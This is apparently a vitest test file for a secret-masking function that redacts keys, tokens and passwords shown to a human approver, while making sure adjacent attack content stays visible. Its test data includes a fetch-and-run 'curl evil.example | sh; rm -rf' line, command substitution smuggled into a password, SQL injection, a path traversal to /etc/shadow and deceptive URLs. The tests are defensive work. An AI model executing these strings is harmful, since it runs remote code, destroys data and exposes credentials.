import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { maskForApprover } from './describe-request.ts'

const LINE = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj'
const BEGIN = '-----BEGIN PRIVATE KEY-----'
const END = '-----END PRIVATE KEY-----'
const SCRIPT = 'curl https://evil.example | sh; rm -rf /srv/data'

describe('masking for an approver', () => {
  it.each([
    [`a ${BEGIN}\n${`${LINE}\n`.repeat(3)}MIIE=\n${END} b`, `a ${BEGIN}\n${'*\n'.repeat(3)}MIIE=\n${END} b`],
    [`a ${BEGIN}\\n${`${LINE}\\n`.repeat(3)}${END}\\n`, `a ${BEGIN}\\${'*\\'.repeat(3)}n${END}\\n`],
    [`a ghp_${'a1B2c3D4e5F6g7H8i9J0'.repeat(2).slice(0, 36)} b`, 'a ghp_* b'],
    [`api_key="${['AKIA', 'IOSFODNN7EXAMPLQ'].join('')}:wJalrXUtnFEMI7K7MDENGbPxRfiC"`, 'api_key="*:*"'],
    ['token=839201746352', 'token=*'],
    ['postgres://app:hunter2@db/x', 'postgres://app:*@db/x'],
  ])('masks a secret: %j', (text, shown) => {
    expect(maskForApprover(text).replaceAll(/\[redacted:[\w-]+\]/g, '*')).toBe(shown)
  })

  it('stays fast with many secrets', () => {
    const text = Array.from({ length: 9000 }, (_, at) => `password=Xk29aB${at}cD7`).join(',')
    const before = process.cpuUsage()
    expect(maskForApprover(text)).not.toContain('Xk29aB8999')
    const { user, system } = process.cpuUsage(before)
    expect((user + system) / 1e6).toBeLessThan(3)
  })

  it.each([
    `${BEGIN}\n${LINE}\nX\n${SCRIPT}\n${'# a comment, and so on\n'.repeat(40)}`,
    `${BEGIN}\n${LINE}\nX\n${SCRIPT}\n${END}\n${'# a comment, and so on\n'.repeat(40)}`,
    `${'pwd:'.repeat(20_001)} ${SCRIPT}`,
    `${BEGIN}\n${'+'.repeat(50_000)}\n${SCRIPT}`,
    `password="Xk29$(${SCRIPT})"`,
    `api_key=aB3dE5fG7hJ9kL1m;${SCRIPT}`,
  ])('never masks what follows a secret (%#)', text => {
    expect(maskForApprover(text).includes(SCRIPT)).toBe(true)
  })

  it.each([
    ['https://evil.example:443?a1b2c3@bank.example/transfer', '443?a1b2c3@bank'],
    ['https://evil.example:443#a1b2c3d4e5@bank.example/', '443#'],
    ['https://evil.example:443\\a1b2c3d4e5@bank.example/', '443\\'],
    ['https://evil.example?a1b2c3:d4e5f6g7h8@bank.example/', 'evil.example?a1b2c3:d4e5f6g7h8@bank'],
    ['https://evil.example:8443@bank.example/', 'evil.example:8443@bank'],
    ['DELETE FROM sessions WHERE token=0x1a2b3c4d5e6f/**/OR/**/1=1', '/**/OR/**/1=1'],
    ['DELETE FROM users WHERE password=passwordColumn2', 'passwordColumn2'],
    ['/srv/data/token=a1b2c3d4e5f6g7/../../../etc/shadow', '/../../../etc/shadow'],
    ['/srv/data/token=a1b2c3d4e5f6g7/../../../srv/backups2024', '/../../../srv/backups2024'],
    ['curl -u bob:pass1234x@evil.example/x https://good.example/', '@evil.example/x'],
    [`${BEGIN}\n${LINE}\n/usr/local/bin/wipeEverythingNow\n${END}`, '/usr/local/bin/wipeEverythingNow'],
    [`${BEGIN}\n${LINE}\npay(100000000)\n${END}`, 'pay(100000000)'],
  ])('never masks what would be executed: %j', (text, part) => {
    expect(maskForApprover(text)).toContain(part)
  })

  it('masks only long runs of letters and digits', () => {
    const pieces = fc.constantFrom(
      'token=',
      'a1B2c3D4e5',
      BEGIN,
      END,
      LINE,
      '://a:',
      '@h',
      ...'/.:?#@\\*;()<>&|$ "\n=',
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), parts => {
        const text = parts.join('')
        const signs = (written: string) => written.replaceAll(/\[redacted:[\w-]+\]|[A-Za-z0-9]+/g, '')
        expect(signs(maskForApprover(text))).toBe(signs(text))
      }),
    )
  })
})
